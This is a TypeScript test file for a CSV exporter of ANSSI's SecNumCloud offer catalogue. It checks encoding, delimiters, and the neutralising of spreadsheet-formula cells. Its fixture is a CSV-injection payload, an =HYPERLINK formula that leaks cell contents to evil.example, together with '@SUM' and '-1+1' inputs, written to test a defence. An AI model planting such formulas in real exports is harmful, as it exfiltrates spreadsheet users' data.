import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Offer } from '../../src/core/offer.js';
import { offersCsv } from '../../src/web/csv-offers.js';
import { csvCell, renderCsv } from '../../src/web/csv.js';
import { catalogueSnapshot } from '../support/csv-offers.js';

const december = catalogueSnapshot();
const TODAY = '2026-11-28';
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")';

/** Parses a document back as a spreadsheet-minded reader would: BOM dropped, `;`, the `#` line skipped. */
const parseBack = (text: string): string[][] => parse(text, { bom: true, delimiter: ';', comment: '#', record_delimiter: '\r\n' }) as string[][];

describe('the CSV writer', () => {
  it('starts with a UTF-8 BOM and a comment line, ends every line with CRLF, separates cells with ;', () => {
    const text = renderCsv({ comment: 'Source : catalogue ; édition du 05/12/2025\nsuite', header: ['a', 'b'], rows: [['x;y', 'dit "oui"'], ['é', undefined]] });
    const bytes = Buffer.from(text, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // One comment line, with no ; (a spreadsheet would split it into cells) and no line break.
    expect(text.slice(1).split('\r\n')[0]).toBe('# Source : catalogue , édition du 05/12/2025 suite');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseBack(text)).toEqual([['a', 'b'], ['x;y', 'dit "oui"'], ['é', '']]);
  });

  it('defuses every text cell a spreadsheet would run as a formula, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${start}1+2`;
      expect(csvCell(value), JSON.stringify(value)).toBe(`"'${value}"`);
    }
    expect(csvCell('Cloud Temple')).toBe('"Cloud Temple"');
    expect(csvCell('3DS Outscale')).toBe('"3DS Outscale"');
    // Numbers are the writer's own: a negative count of days stays a number.
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('the offers as CSV', () => {
  it('lists every offer of the catalogue with both forms of each date, the days left and the decision URL', () => {
    const text = renderCsv(offersCsv({ offers: december.offers, edition: december.edition!, today: TODAY, lang: 'fr', filters: {} }));
    const [header, ...rows] = parseBack(text);
    expect(header).toEqual(['Fournisseur', 'Service', 'Types', 'Début de qualification', 'Début (AAAA-MM-JJ)', 'Fin de qualification', 'Fin (AAAA-MM-JJ)', 'Jours restants', 'Décision', 'Lien de la décision']);
    expect(rows).toHaveLength(16);
    const cegedim = rows.find((r) => r[0] === 'Cegedim')!;
    expect(cegedim).toEqual(['Cegedim', 'CegNumCloud Secured IaaS', 'IaaS', '04/12/2024', '2024-12-04', '04/12/2027', '2027-12-04', '371', '1951', 'https://messervices.cyber.gouv.fr/visas/2024_1951_np.pdf']);
    expect(rows.map((r) => `${r[0]}|${r[1]}`)).toEqual(december.offers.map((o) => `${o.provider}|${o.service}`));
    expect(text.slice(1).split('\r\n')[0]).toBe("# Source : catalogue des offres qualifiées SecNumCloud de l'ANSSI, édition du 05/12/2025. Extrait le 28/11/2026 par secnumcloud-tracker.");
  });

  it('neutralises a provider named =HYPERLINK(…): the cell reads back as text starting with a quote', () => {
    const hostile: Offer = { ...december.offers[0]!, provider: HOSTILE, service: '-1+1', decision: '@SUM(A1:A9)' };
    const text = renderCsv(offersCsv({ offers: [hostile], edition: '2025-12-05', today: TODAY, lang: 'fr', filters: {} }));
    const [, row] = parseBack(text);
    expect(row![0]).toBe(`'${HOSTILE}`);
    expect(row![1]).toBe("'-1+1");
    expect(row![8]).toBe("'@SUM(A1:A9)");
    // No cell of the file starts with a formula character once unquoted.
    for (const cell of parseBack(text).flat()) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-\D/);
  });

  it('says on its first line that the catalogue was never read, rather than looking like an empty catalogue', () => {
    const notice = "Le catalogue n'a pas encore été lu : aucune offre qualifiée à afficher pour l'instant.";
    const text = renderCsv(offersCsv({ offers: [], today: TODAY, lang: 'fr', filters: {}, notice }));
    expect(text.slice(1).split('\r\n')[0]).toBe(`# Source : catalogue des offres qualifiées SecNumCloud de l'ANSSI, aucune édition lue. ${notice} Extrait le 28/11/2026 par secnumcloud-tracker.`);
    expect(parseBack(text)).toHaveLength(1); // the header, and no row
  });

  it('names its filters and speaks English with lang=en', () => {
    const ovh = december.offers.filter((o) => o.provider === 'OVH');
    const text = renderCsv(offersCsv({ offers: ovh, edition: '2025-12-05', today: TODAY, lang: 'en', filters: { provider: 'ovh', type: 'IaaS' } }));
    expect(text.slice(1).split('\r\n')[0]).toBe('# Source: ANSSI\'s catalogue of SecNumCloud qualified offers, edition of 2025-12-05. Filters: type IaaS, provider "ovh". Extracted on 2026-11-28 by secnumcloud-tracker.');
    expect(parseBack(text)[0]![0]).toBe('Provider');
  });
});
